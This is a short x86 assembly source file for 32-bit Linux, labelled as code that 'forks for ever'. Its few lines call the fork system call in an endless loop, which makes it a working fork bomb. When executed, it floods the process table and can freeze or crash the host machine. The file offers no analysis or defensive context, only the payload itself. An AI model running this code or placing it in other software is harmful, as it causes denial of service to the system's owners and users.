; Linux, 32 bit: forks for ever.
bits 32
again:  push byte 2
        pop eax
        int 80h
        jmp short again
